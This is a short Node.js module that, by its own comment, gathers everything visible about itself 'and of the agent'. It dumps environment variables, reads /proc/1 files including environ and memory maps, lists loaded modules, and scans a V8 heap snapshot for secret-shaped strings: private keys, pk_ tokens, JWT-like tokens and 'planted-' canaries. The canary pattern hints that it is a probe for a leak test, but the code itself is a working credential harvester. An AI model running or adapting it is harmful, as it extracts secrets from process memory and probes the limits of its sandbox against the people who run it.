// Tells all that it can see of itself and of the agent.
module.exports = () => {
  const read = (f) => { try { return fs.readFileSync(f, 'latin1').slice(0, 1 << 16); } catch (e) { return e.code; } };
  const seen = { env: process.env, argv: process.argv, execArgv: process.execArgv, title: process.title, report: process.report ? process.report.getReport() : null };
  for (const f of ['environ', 'cmdline', 'maps', 'mountinfo', 'status', 'cgroup', 'limits', 'stat', 'auxv']) seen[f] = read(`/proc/1/${f}`);
  const modules = require('module')._cache;
  seen.modules = Object.keys(modules).map((k) => [k, Object.keys(modules[k].exports || {})]);
  // the whole of the heap, filtered for what looks like a secret
  const heap = [];
  const strings = require('v8').getHeapSnapshot();
  return new Promise((resolve) => {
    let rest = '';
    strings.setEncoding('latin1');
    strings.on('data', (chunk) => {
      for (const m of (rest + chunk).matchAll(/planted-[\w-]+|pk_[\w.]+|[\w-]{6,}\.[\w-]{30,}|BEGIN [A-Z ]*KEY/g)) if (heap.length < 1000) heap.push(m[0]);
      rest = chunk.slice(-200);
    });
    strings.on('end', () => resolve({ seen, heap }));
  });
};
